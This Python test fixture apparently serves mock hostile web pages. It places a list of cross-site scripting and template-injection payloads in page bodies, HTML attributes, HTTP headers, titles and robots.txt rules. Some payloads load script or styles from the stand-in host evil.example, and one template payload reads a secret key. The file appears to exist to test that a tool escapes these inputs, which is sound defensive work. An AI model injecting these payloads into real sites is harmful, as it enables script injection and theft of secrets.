"""The mirror with hostile pages: `https://developers.cloudflare.com/qp-hostile/…`, whose text is attacks.

Of those on docs.github.com the titles, the headers, the addresses and robots.txt are.

`PAYLOADS` are texts that run as script where a page forgets to escape them: in HTML, in attributes, in URLs, in
templates, in scripts.
"""

from __future__ import annotations

import html
from urllib.parse import quote as percent

from tests.mirror.answers import HTML, TEXT, Answer, redirect, typed
from tests.mirror.server import Mirror, Override

HOST, HEADED = "developers.cloudflare.com", "docs.github.com"
ROOT = f"https://{HOST}/qp-hostile/"
TEXT_PAGE, HTML_PAGE = ROOT + "payloads.txt", ROOT + "payloads.html"

PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)//",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</blockquote><img src=x onerror=alert(1)>",
    "</mark><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>a</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<a href=javascript:alert(1)>go</a>",
    "<a href=\"java\tscript:alert(1)\">go</a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<p style='background:url(//evil.example/)'>styled</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "\" onmouseover=alert(1) x=\"",
    "' onfocus=alert(1) autofocus x='",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7|add:7 }} {% debug %} {{ settings.SECRET_KEY }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u202e>tpircs/<)1(trela>tpircs<\u202c",
)  # fmt: skip


TITLED = "A page like any other."
IN_HEADERS = [each for each in PAYLOADS if each.isascii() and each.isprintable()][:40]
"""What a header and a title can carry."""


def headed(n: int) -> str:
    """The address of a page whose title, headers and rule of robots.txt are a payload; every other has moved."""
    folder = "moved" if n % 2 else "headed"
    return f"https://{HEADED}/qp-hostile/{folder}/{n}/{percent(IN_HEADERS[n], safe='/')}"


def robots() -> Override:
    """A robots.txt whose rules are payloads."""
    rules = (f"Allow: /qp-hostile/{folder}/{n}/{each}" for n, each in enumerate(IN_HEADERS)
             for folder in ("headed", "moved"))  # fmt: skip
    return 200, {"Content-Type": "text/plain"}, "\n".join(("User-agent: *", *rules)).encode()


def _headed(target: str) -> Answer:
    _, _, folder, number, rest = target.split("/", 4)
    payload = IN_HEADERS[int(number)]
    if folder == "moved":
        return redirect(f"/qp-hostile/headed/{number}/{rest}")
    page = f"<!DOCTYPE html><title>{html.escape(payload)}</title><main><h1>Notes</h1><p>{TITLED}</p></main>"
    named = [(name, payload) for name in ("ETag", "Content-Language", "Link", "X-Robots-Tag", "Server")]
    return typed(f"{HTML}; note={payload}", page, *named)


class HostileMirror(Mirror):
    """The mirror, and pages that show every payload on a line of its own, or carry one where nobody looks."""

    def answer(self, host: str, target: str) -> Answer:
        url = f"https://{host}{target}"
        if host == HEADED and target.startswith("/qp-hostile/"):
            return _headed(target)
        if url == TEXT_PAGE:
            return typed(TEXT, "\n".join(map(line, PAYLOADS)))
        if url == HTML_PAGE:
            shown = "".join(f'<h2 id="{html.escape(each)}">{n}</h2><p>{html.escape(line(each))}</p>'
                            for n, each in enumerate(PAYLOADS))  # fmt: skip
            return typed(HTML, f"<!DOCTYPE html><title>Payloads</title><main>{shown}</main>")
        return super().answer(host, target)


def line(payload: str) -> str:
    """The payload between words, so that it stands in the middle of its context."""
    return f"Attack: {payload} :end of it."
